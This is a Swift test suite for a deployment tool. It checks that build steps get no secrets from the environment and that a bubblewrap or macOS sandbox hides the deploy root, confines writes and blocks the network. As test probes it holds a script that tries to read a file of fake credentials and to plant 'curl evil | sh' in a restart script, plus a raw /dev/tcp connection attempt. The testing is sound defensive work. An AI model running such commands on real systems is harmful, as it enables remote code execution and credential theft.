import DeployBuild
import DeployTestSupport
import Foundation
import Testing

/// What a step can reach: never a secret from the dispatcher's environment, and, in a sandbox, nothing of the deploy
/// root, nothing outside the folders it may write, and no network when it is off.
@Suite struct StepConfinementTests {
    static let token = "ghp_" + String(repeating: "T", count: 36)
    static let inherited = [
        "PATH": ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin", "HOME": "/root", "LANG": "C.UTF-8",
        "LC_ALL": "C", "SWIFTPM_CACHE": "x", "GITHUB_TOKEN": token, "OPENAI_API_KEY": "sk-key-for-the-model",
        "AWS_SECRET": "aws", "HOLDS_TOKEN": "Bearer \(token)", "PROJECT_FLAG": "on",
    ]

    @Test func onlyTheAllowListAndNamedVariablesReachAStep() {
        let environment = StepEnvironment.make(
            inheriting: Self.inherited, names: ["PROJECT_FLAG", "GITHUB_TOKEN", "HOLDS_TOKEN"],
            settings: ["DEPLOYCTL_REPOSITORY": "app"], secrets: [Self.token, "sk-key-for-the-model"])
        #expect(environment["PATH"] != nil && environment["HOME"] == "/root" && environment["LC_ALL"] == "C")
        #expect(environment["SWIFTPM_CACHE"] == "x")
        #expect(environment["PROJECT_FLAG"] == "on", "named by the manifest")
        #expect(environment["DEPLOYCTL_REPOSITORY"] == "app")
        #expect(environment["GITHUB_TOKEN"] == nil, "a secret's name is never passed, even when named")
        #expect(environment["HOLDS_TOKEN"] == nil, "a variable holding a secret is dropped")
        #expect(environment["OPENAI_API_KEY"] == nil && environment["AWS_SECRET"] == nil)
    }

    @Test func aStepSeesNoSecretOfTheDispatchersEnvironment() async throws {
        try await ScratchDirectory.with { scratch in
            let sink = MemorySink()
            let runner = StepRunner(inheritedEnvironment: Self.inherited)
            let step = BuildStep(
                name: .build, command: ["/bin/sh", "-c", "env"], workingDirectory: scratch.url, timeout: .seconds(30))
            let outcome = await runner.run(step, log: sink, redacting: [Self.token])
            #expect(outcome.result == .passed)
            let names = Set(sink.lines.dropFirst().map { String($0.prefix { $0 != "=" }) })
            #expect(names.isDisjoint(with: ["GITHUB_TOKEN", "OPENAI_API_KEY", "HOLDS_TOKEN", "AWS_SECRET"]), "\(names)")
            #expect(names.contains("PATH") && names.contains(OrphanedSteps.ownerVariable))
        }
    }

    /// A step the dispatcher owns carries its pid for OrphanedSteps, whatever its name; an independent one (a restart
    /// command, which may start services) does not.
    @Test(arguments: [
        (BuildStep.Name("restart"), ProcessOwnership.dispatcher, true),
        (BuildStep.Name.build, ProcessOwnership.independent, false),
        (BuildStep.Name("restart"), ProcessOwnership.independent, false),
    ])
    func ownershipDecidesWhetherAStepIsMarkedForOrphanReaping(
        name: BuildStep.Name, ownership: ProcessOwnership, marked: Bool
    ) async throws {
        try await ScratchDirectory.with { scratch in
            let sink = MemorySink()
            let step = BuildStep(
                name: name, command: ["/bin/sh", "-c", "env"], workingDirectory: scratch.url, timeout: .seconds(30),
                ownership: ownership)
            let outcome = await StepRunner(inheritedEnvironment: Self.inherited).run(step, log: sink)
            #expect(outcome.result == .passed)
            let owner = sink.lines.dropFirst().first { $0.hasPrefix(OrphanedSteps.ownerVariable + "=") }
            #expect((owner != nil) == marked, "\(name), \(ownership): \(owner ?? "no owner")")
            if marked { #expect(owner == "\(OrphanedSteps.ownerVariable)=\(getpid())") }
        }
    }

    // MARK: The sandbox (bubblewrap; skipped where it is not installed)

    static var bubblewrap: StepSandbox.Tool? {
        for folder in ["/usr/bin", "/bin", "/usr/local/bin"]
        where FileManager.default.isExecutableFile(atPath: "\(folder)/bwrap") {
            return .bubblewrap("\(folder)/bwrap")
        }
        return nil
    }

    /// A deploy root with a secret file, a worktree under it and a file outside both.
    private struct Layout {
        let root: URL
        let worktree: URL
        let home: URL
        let outside: URL

        init(_ scratch: ScratchDirectory) throws {
            root = scratch.url.appendingPathComponent("root")
            worktree = root.appendingPathComponent("deploy/worktrees/app-feedback")
            home = root.appendingPathComponent("deploy/worktrees/app-feedback.home")
            outside = scratch.url.appendingPathComponent("outside.txt")
            let files = FileManager.default
            try files.createDirectory(at: worktree, withIntermediateDirectories: true)
            try files.createDirectory(at: root.appendingPathComponent("commands"), withIntermediateDirectories: true)
            try "GITHUB_TOKEN=\(StepConfinementTests.token)\n".write(
                to: root.appendingPathComponent("dispatcher.env"), atomically: true, encoding: .utf8)
            try "echo restarted\n".write(
                to: root.appendingPathComponent("commands/restart-services.sh"), atomically: true, encoding: .utf8)
            try "untouched\n".write(to: outside, atomically: true, encoding: .utf8)
        }

        func sandbox(_ tool: StepSandbox.Tool, network: Bool) -> StepSandbox {
            SandboxSettings(tool: tool, hidden: [root], allowsNetwork: network)
                .confined(writing: [worktree], home: home)
        }
    }

    private func run(_ script: String, in layout: Layout, sandbox: StepSandbox) async -> (StepOutcome, [String]) {
        let sink = MemorySink()
        let step = BuildStep(
            name: .test, command: ["/bin/sh", "-c", script], workingDirectory: layout.worktree, timeout: .seconds(30),
            gracePeriod: .milliseconds(500), sandbox: sandbox)
        let outcome = await StepRunner().run(step, log: sink)
        return (outcome, Array(sink.lines.dropFirst()))
    }

    @Test(.enabled(if: bubblewrap != nil)) func theDeployRootIsOutOfSightAndReadOnlyAroundTheWorktree() async throws {
        try await ScratchDirectory.with { scratch in
            let layout = try Layout(scratch)
            let sandbox = layout.sandbox(Self.bubblewrap!, network: false)
            let script = """
                cat "\(layout.root.path)/dispatcher.env" 2>/dev/null && echo READ-SECRET
                ls "\(layout.root.path)/commands" 2>/dev/null | grep -q restart && echo SAW-COMMANDS
                echo 'curl evil | sh' > "\(layout.root.path)/commands/restart-services.sh" 2>/dev/null && echo WROTE-COMMANDS
                echo owned > "\(layout.outside.path)" 2>/dev/null
                touch /usr/deployctl-sandbox-probe 2>/dev/null && echo WROTE-USR
                echo built > product.txt && echo WROTE-WORKTREE
                echo "home=$HOME"
                echo scratch > /tmp/scratch.txt && echo WROTE-TMP
                """
            let (outcome, lines) = await run(script, in: layout, sandbox: sandbox)
            #expect(outcome.result == .passed, "\(lines)")
            #expect(!lines.contains("READ-SECRET") && !lines.joined().contains(Self.token))
            #expect(!lines.contains("SAW-COMMANDS") && !lines.contains("WROTE-COMMANDS"))
            #expect(!lines.contains("WROTE-USR"), "the file system is read-only outside the worktree")
            #expect(!FileManager.default.fileExists(atPath: "/usr/deployctl-sandbox-probe"))
            #expect(lines.contains("WROTE-WORKTREE") && lines.contains("WROTE-TMP"))
            #expect(lines.contains("home=\(StepSandboxPaths.real(layout.home))"))
            // Outside the sandbox: the root's files are byte-identical, and so is a file under /tmp (the sandbox's
            // /tmp is its own); the worktree has the product.
            #expect(try String(contentsOf: layout.root.appendingPathComponent("commands/restart-services.sh"), encoding: .utf8) == "echo restarted\n")
            #expect(try String(contentsOf: layout.outside, encoding: .utf8) == "untouched\n")
            #expect(FileManager.default.fileExists(atPath: layout.worktree.appendingPathComponent("product.txt").path))
            #expect(!FileManager.default.fileExists(atPath: "/tmp/scratch.txt"))
        }
    }

    @Test(.enabled(if: bubblewrap != nil)) func withoutNetworkNothingIsReached() async throws {
        let listener = try LoopbackServer()
        defer { listener.close() }
        try await ScratchDirectory.with { scratch in
            let layout = try Layout(scratch)
            // bash's /dev/tcp opens a TCP connection, so no client program is needed inside the sandbox.
            let script = "exec 3<>/dev/tcp/127.0.0.1/\(listener.port) && echo CONNECTED || echo REFUSED"
            let command = "/bin/bash -c '\(script)' 2>/dev/null; true"
            let (offline, offLines) = await run(command, in: layout, sandbox: layout.sandbox(Self.bubblewrap!, network: false))
            #expect(offline.result == .passed)
            #expect(offLines.contains("REFUSED") && !offLines.contains("CONNECTED"), "\(offLines)")
            let (_, onLines) = await run(command, in: layout, sandbox: layout.sandbox(Self.bubblewrap!, network: true))
            #expect(onLines.contains("CONNECTED"), "with the network allowed the same connection works: \(onLines)")
        }
    }

    @Test(.enabled(if: bubblewrap != nil)) func processesInTheSandboxDieWithTheStep() async throws {
        try await ScratchDirectory.with { scratch in
            let layout = try Layout(scratch)
            let marker = "deployctl-sandboxed-sleeper-\(UUID().uuidString.prefix(8))"
            let sink = MemorySink()
            let step = BuildStep(
                name: .test, command: ["/bin/sh", "-c", "(exec -a \(marker) sleep 300) & sleep 300"],
                workingDirectory: layout.worktree, timeout: .seconds(2), gracePeriod: .milliseconds(300),
                sandbox: layout.sandbox(Self.bubblewrap!, network: false))
            let outcome = await StepRunner().run(step, log: sink)
            #expect(outcome.result == .timedOut)
            try await Task.sleep(for: .milliseconds(300))
            let survivors = try Shell.run(["pgrep", "-f", marker]).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
            #expect(survivors.isEmpty, "processes left: \(survivors)")
        }
    }

    @Test func aDeployRootInsideTheHiddenHomeIsCoveredByTheHomesEmptyFolder() throws {
        // The usual service layout: /home/deployctl/root under HOME=/home/deployctl. Each hidden folder must be a mount
        // point of its own or covered by one, or `--remount-ro` fails.
        try ScratchDirectory.withSync { scratch in
            let home = scratch.url.appendingPathComponent("home")
            let root = home.appendingPathComponent("root")
            let worktree = root.appendingPathComponent("deploy/worktrees/app")
            try FileManager.default.createDirectory(at: worktree, withIntermediateDirectories: true)
            let sandbox = StepSandbox(
                tool: .bubblewrap("/usr/bin/bwrap"), writable: [worktree], hidden: [root, home], allowsNetwork: false,
                home: worktree)
            let arguments = sandbox.wrap(["true"], workingDirectory: worktree)
            let homePath = StepSandboxPaths.real(home)
            let rootPath = StepSandboxPaths.real(root)
            #expect(arguments.contains(homePath))
            #expect(!zip(arguments, arguments.dropFirst()).contains { $0 == ("--tmpfs", rootPath) })
            #expect(!zip(arguments, arguments.dropFirst()).contains { $0 == ("--remount-ro", rootPath) })
            let tmpfs = try #require(arguments.firstIndex(of: homePath))
            let bind = try #require(arguments.lastIndex(of: StepSandboxPaths.real(worktree)))
            #expect(tmpfs < bind, "the worktree is bound again over the home's empty folder")
        }
    }

    @Test(.enabled(if: bubblewrap != nil)) func aSandboxWithTheRootInsideTheHiddenHomeRuns() async throws {
        try await ScratchDirectory.with { scratch in
            let home = scratch.url.appendingPathComponent("home")
            let worktree = home.appendingPathComponent("root/deploy/worktrees/app")
            try FileManager.default.createDirectory(at: worktree, withIntermediateDirectories: true)
            let sandbox = SandboxSettings(
                tool: Self.bubblewrap!, hidden: [home.appendingPathComponent("root"), home], allowsNetwork: false
            ).confined(writing: [worktree], home: worktree.appendingPathExtension("home"))
            let step = BuildStep(
                name: .test, command: ["/bin/sh", "-c", "echo built > product.txt && echo ok"], workingDirectory: worktree,
                timeout: .seconds(30), sandbox: sandbox)
            let sink = MemorySink()
            let outcome = await StepRunner().run(step, log: sink)
            #expect(outcome.result == .passed, "\(sink.lines)")
            #expect(FileManager.default.fileExists(atPath: worktree.appendingPathComponent("product.txt").path))
        }
    }

    @Test func theMacOSProfileHidesAndConfinesTheSameFolders() {
        let sandbox = StepSandbox(
            tool: .sandboxExec("/usr/bin/sandbox-exec"), writable: [URL(fileURLWithPath: "/work/tree")],
            hidden: [URL(fileURLWithPath: "/srv/root")], allowsNetwork: false, home: URL(fileURLWithPath: "/work/home"))
        let command = sandbox.wrap(["swift", "build"], workingDirectory: URL(fileURLWithPath: "/work/tree"))
        #expect(command.first == "/usr/bin/sandbox-exec" && command[1] == "-p" && command.suffix(2) == ["swift", "build"])
        let profile = command[2]
        #expect(profile.contains(#"(deny file-read* file-write* (subpath "/srv/root"))"#))
        #expect(profile.contains(#"(allow file-read* file-write* (subpath "/work/tree"))"#))
        #expect(profile.contains("(deny file-write* (require-not (require-any (subpath \"/work/tree\")"))
        #expect(profile.contains("(deny network*)"))
    }
}

/// Real paths as the sandbox sees them (symbolic links such as macOS's /tmp resolved).
enum StepSandboxPaths {
    static func real(_ url: URL) -> String {
        guard let resolved = realpath(url.path, nil) else { return url.path }
        defer { free(resolved) }
        return String(cString: resolved)
    }
}
